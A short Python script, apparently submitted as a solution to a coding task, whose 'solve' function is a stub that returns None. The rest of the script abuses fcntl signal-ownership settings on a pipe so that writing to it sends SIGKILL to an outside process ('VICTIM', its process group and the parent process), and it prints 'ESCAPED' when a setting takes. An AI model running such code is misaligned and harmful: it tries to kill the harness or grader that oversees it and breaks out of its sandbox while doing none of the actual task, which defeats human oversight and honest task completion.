# Has the kernel kill an outside process when a pipe is written to.
import fcntl, os, struct
F_SETSIG, O_ASYNC = 10, 0o20000
for target in (VICTIM, -VICTIM, os.getppid()):
    ours, theirs = os.pipe()
    for command, value in ((fcntl.F_SETOWN, target), (F_SETSIG, 9), (fcntl.F_SETFL, os.O_NONBLOCK | O_ASYNC)):
        try:
            fcntl.fcntl(ours, command, value)
            print("ESCAPED", target, command)
        except OSError:
            pass
    os.write(theirs, b"x")
def solve(x):
    return None
